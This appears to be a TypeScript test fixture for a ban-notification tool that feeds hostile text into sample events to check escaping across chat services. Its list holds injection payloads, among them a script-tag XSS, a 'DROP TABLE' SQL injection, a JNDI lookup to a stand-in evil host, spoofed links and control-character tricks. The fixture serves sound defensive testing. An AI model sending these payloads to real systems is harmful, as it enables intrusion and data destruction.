import type { Ban, BanEvent } from '../../src/core/event.ts';
import { sampleEvents } from '../../src/notifiers/sample-events.ts';
import { NOW } from './rig.ts';

/** What strangers write as user names and greetings to make a message do something. */
export const HOSTILE_TEXTS: readonly string[] = [
  '<!channel> <!here> <!subteam^S1>',
  '<@U024BE7LH> <#C024BE7LR>',
  '@everyone @here <@123456789012345678> <@&123456789012345678> <#123456789012345678>',
  '<https://evil.example/|mail.example.org>',
  '[mail.example.org](https://evil.example/)',
  'https://evil.example/?a=1&b=2 evil.example mailto:a@evil.example tel:112',
  '*bold* _italic_ __under__ ~strike~ ~~strike~~ ||spoiler||',
  '`code` ``code`` ```block```',
  '```',
  '`',
  '\\`@everyone\\`',
  ':skull: :+1: <:party:123> <a:party:123>',
  '<t:0:R> <!date^0^{date}|x>',
  '# heading',
  '> quote',
  '>>> quote',
  '-# small',
  '- item',
  '1. item',
  '&lt;!channel&gt; &amp; &#60;',
  '\u001b[31mred\u001b[0m \u001b]8;;https://evil.example\u0007x\u001b]8;;\u0007',
  'abc\u202etxt.exe\u2066\u200b\ufeff',
  'one\r\nBanning 8.8.8.8/32 for 30 minutes\u2028two\u0085three\u0000four',
  '\ud800 \udfff',
  '',
  ' ',
  'A'.repeat(65_536),
  '<'.repeat(65_536),
  '&'.repeat(300),
  '😀'.repeat(2_000),
  '*'.repeat(65),
  '"><script>alert(1)</script>',
  "'; DROP TABLE bans; --",
  '{{constructor}} ${jndi:ldap://evil.example}',
  '__proto__',
];

/** Strings that only cowbell writes: times, identifiers and words of its own. */
const OURS = /^(id|type|at|since|from|to|period|end_reason|action|mode|\w+_at|until)$/;

/** Every event of every kind, and a ban with all that one can have, with `text` wherever a string may come from outside. */
export function eventsWith(text: string): BanEvent[] {
  const samples = sampleEvents('mail.example.org', NOW);
  const [first] = samples;
  const full = first !== undefined && 'ban' in first ? [{ ...first, ban: fullBan(first.ban) }] : [];
  return [...full, ...samples].map((event) => replaceText(event, text) as BanEvent);
}

function fullBan(ban: Ban): Ban {
  const times = <T>(count: number, item: T): T[] => Array.from({ length: count }, () => item);
  return {
    ...ban,
    claimed: true,
    late: true,
    confirmed: false,
    services: times(10, 'smtp'),
    rules: times(10, '3'),
    offenders: times(10, { ip: '203.0.113.7', attempts: 1_000, country: 'DE', asn: 64_496, as_name: 'Example Net' }),
    accounts: times(10, { name: 'info@example.org', attempts: 1_000 }),
    known_users: times(10, { name: 'anna@example.org', last_seen_at: ban.started_at, logins: 1_000 }),
    reputation: { source: 'abuseipdb', score: 100, reports: 10_000, checked_at: ban.started_at },
    evidence: times(5, 'a line'),
  };
}

function replaceText(value: unknown, text: string, key = ''): unknown {
  if (typeof value === 'string') return OURS.test(key) ? value : text;
  if (Array.isArray(value)) return value.map((each) => replaceText(each, text));
  if (typeof value !== 'object' || value === null) return value;
  return Object.fromEntries(Object.entries(value).map(([name, each]) => [name, replaceText(each, text, name)]));
}

/** A storm: `count` events, mostly bans, each other. */
export function stormOf(count: number): BanEvent[] {
  const samples = sampleEvents('mail.example.org', NOW);
  return Array.from({ length: count }, (_, index): BanEvent => {
    const sample = samples[index % 10 === 0 ? (index / 10) % samples.length : 0] as BanEvent;
    const at = new Date(NOW + index * 10).toISOString();
    if (!('ban' in sample)) return { ...sample, id: `event-${index}`, at };
    const ip = `203.0.${(index >> 8) & 255}.${index & 255}`;
    return {
      ...sample,
      id: `event-${index}`,
      at,
      ban: {
        ...sample.ban,
        id: `ban-${index}`,
        network: `${ip}/32`,
        attempts: index,
        offenders: [{ ip, attempts: index }],
      },
    };
  });
}

/** What markup is made of, in any service. */
export const MARKUP_PIECES = [
  '`',
  '```',
  '*',
  '_',
  '~',
  '|',
  '<',
  '>',
  '&',
  '@',
  '#',
  ':',
  '\\',
  '[',
  ']',
  '(',
  ')',
  '/',
  '-',
  ' ',
  '\n',
  'a',
  '1',
  '!',
  'http://',
];
